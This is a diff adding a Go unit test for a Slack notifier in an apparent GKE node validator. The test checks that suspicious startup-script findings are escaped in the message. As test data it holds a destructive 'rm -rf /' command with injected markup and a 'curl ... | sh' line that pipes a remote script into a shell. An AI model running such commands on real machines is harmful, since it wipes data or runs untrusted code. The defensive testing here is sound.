@@ -0,0 +1,56 @@
+package notify_test
+
+import (
+	"context"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/castai/gcp-node-validator/container/findings"
+	"github.com/castai/gcp-node-validator/container/notify"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSlack(t *testing.T) {
+	r := require.New(t)
+
+	var message struct {
+		Text   string `json:"text"`
+		Blocks []struct {
+			Type string `json:"type"`
+			Text struct {
+				Text string `json:"text"`
+			} `json:"text"`
+		} `json:"blocks"`
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+		r.NoError(json.NewDecoder(req.Body).Decode(&message))
+		_, _ = w.Write([]byte("ok"))
+	}))
+	defer srv.Close()
+
+	result := invalidResult()
+	result.Findings = append(result.Findings, findings.Finding{
+		Type:        findings.TypeUnknownCommands,
+		MetadataKey: "configure-sh",
+		Lines:       []string{"echo <script> && ```rm -rf /```"},
+	})
+
+	r.NoError(notify.NewSlack(srv.URL).Report(context.Background(), result))
+
+	r.Equal("Invalid instance gke-cluster-pool-1 in cluster cluster (cluster-id)", message.Text)
+	r.Len(message.Blocks, 4)
+	r.Equal("header", message.Blocks[0].Type)
+
+	var text strings.Builder
+	for _, block := range message.Blocks {
+		text.WriteString(block.Text.Text + "\n")
+	}
+	r.Contains(text.String(), "*Instance:* `gke-cluster-pool-1`")
+	r.Contains(text.String(), "*Node pool:* pool")
+	r.Contains(text.String(), "*Action:* delete applied")
+	r.Contains(text.String(), "```curl https://example.com/install.sh | sh```")
+	r.Contains(text.String(), "```echo &lt;script&gt; &amp;&amp; '''rm -rf /'''```", "lines are escaped")
+}